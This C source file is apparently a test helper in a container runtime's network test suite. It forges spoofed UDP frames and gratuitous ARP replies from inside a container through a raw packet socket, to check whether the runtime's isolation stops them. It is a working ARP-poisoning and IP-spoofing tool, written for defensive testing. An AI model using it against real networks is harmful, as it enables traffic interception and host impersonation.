/*
 * Forged frames from inside a container, as a hostile process with CAP_NET_RAW (which containers keep,
 * as under Docker) sends them on eth0 through a packet socket. Prints "sent ..." once they are out;
 * whether they arrive is for the test's listener to say (tests/network.rs).
 *   spoof udp ETH_SRC ETH_DST IP_SRC IP_DST PORT TEXT   a UDP datagram carrying TEXT
 *   spoof garp ETH_SRC IP                               a gratuitous ARP reply: "IP is at ETH_SRC"
 * ETH_SRC may be "self" (eth0's own MAC). Each frame is sent three times.
 * Built statically by tests/attack/build.sh (the test images have no libc).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define IFACE "eth0"

static void die(const char *what) {
  printf("%s errno %d (%s)\n", what, errno, strerror(errno));
  exit(1);
}

static void parse_mac(int sock, const char *text, uint8_t mac[ETH_ALEN]) {
  if (strcmp(text, "self") == 0) {
    struct ifreq req = {0};
    strncpy(req.ifr_name, IFACE, IFNAMSIZ - 1);
    if (ioctl(sock, SIOCGIFHWADDR, &req) < 0)
      die("SIOCGIFHWADDR");
    memcpy(mac, req.ifr_hwaddr.sa_data, ETH_ALEN);
    return;
  }
  unsigned b[ETH_ALEN];
  if (sscanf(text, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != ETH_ALEN) {
    fprintf(stderr, "not a MAC: %s\n", text);
    exit(2);
  }
  for (int i = 0; i < ETH_ALEN; i++)
    mac[i] = (uint8_t)b[i];
}

static struct in_addr parse_ip(const char *text) {
  struct in_addr a;
  if (inet_pton(AF_INET, text, &a) != 1) {
    fprintf(stderr, "not an IPv4 address: %s\n", text);
    exit(2);
  }
  return a;
}

static uint16_t checksum(const void *data, size_t len) {
  const uint16_t *words = data;
  uint32_t sum = 0;
  for (; len > 1; len -= 2)
    sum += *words++;
  if (len)
    sum += *(const uint8_t *)words;
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static void send_frame(int sock, const void *frame, size_t len) {
  struct sockaddr_ll to = {
      .sll_family = AF_PACKET,
      .sll_ifindex = (int)if_nametoindex(IFACE),
      .sll_halen = ETH_ALEN,
  };
  memcpy(to.sll_addr, frame, ETH_ALEN);
  for (int i = 0; i < 3; i++) {
    if (sendto(sock, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0)
      die("sendto");
    usleep(20 * 1000);
  }
}

static int send_udp(int sock, char **argv) {
  uint8_t frame[1514] = {0};
  struct ether_header *eth = (struct ether_header *)frame;
  struct iphdr *ip = (struct iphdr *)(eth + 1);
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  size_t text_len = strlen(argv[7]);
  if (text_len > 1000)
    text_len = 1000;
  memcpy(udp + 1, argv[7], text_len);

  parse_mac(sock, argv[2], eth->ether_shost);
  parse_mac(sock, argv[3], eth->ether_dhost);
  eth->ether_type = htons(ETHERTYPE_IP);
  udp->source = htons(40000);
  udp->dest = htons((uint16_t)atoi(argv[6]));
  udp->len = htons((uint16_t)(sizeof *udp + text_len));
  udp->check = 0; /* optional in IPv4 */
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons((uint16_t)(sizeof *ip + sizeof *udp + text_len));
  ip->saddr = parse_ip(argv[4]).s_addr;
  ip->daddr = parse_ip(argv[5]).s_addr;
  ip->check = checksum(ip, sizeof *ip);
  send_frame(sock, frame, sizeof *eth + sizeof *ip + sizeof *udp + text_len);
  printf("sent udp\n");
  return 0;
}

static int send_garp(int sock, char **argv) {
  struct {
    struct ether_header eth;
    struct ether_arp arp;
  } __attribute__((packed)) frame = {0};
  struct in_addr ip = parse_ip(argv[3]);
  parse_mac(sock, argv[2], frame.eth.ether_shost);
  memset(frame.eth.ether_dhost, 0xff, ETH_ALEN);
  frame.eth.ether_type = htons(ETHERTYPE_ARP);
  frame.arp.arp_hrd = htons(ARPHRD_ETHER);
  frame.arp.arp_pro = htons(ETHERTYPE_IP);
  frame.arp.arp_hln = ETH_ALEN;
  frame.arp.arp_pln = 4;
  frame.arp.arp_op = htons(ARPOP_REPLY);
  memcpy(frame.arp.arp_sha, frame.eth.ether_shost, ETH_ALEN);
  memcpy(frame.arp.arp_spa, &ip, 4);
  /* Target = sender, as Linux wants of a gratuitous reply before it overrides an entry at once. */
  memcpy(frame.arp.arp_tha, frame.eth.ether_shost, ETH_ALEN);
  memcpy(frame.arp.arp_tpa, &ip, 4);
  send_frame(sock, &frame, sizeof frame);
  printf("sent garp\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  int sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (sock < 0)
    die("socket");
  if (argc == 8 && strcmp(argv[1], "udp") == 0)
    return send_udp(sock, argv);
  if (argc == 4 && strcmp(argv[1], "garp") == 0)
    return send_garp(sock, argv);
  fprintf(stderr, "usage: spoof udp ETH_SRC ETH_DST IP_SRC IP_DST PORT TEXT | garp ETH_SRC IP\n");
  return 2;
}
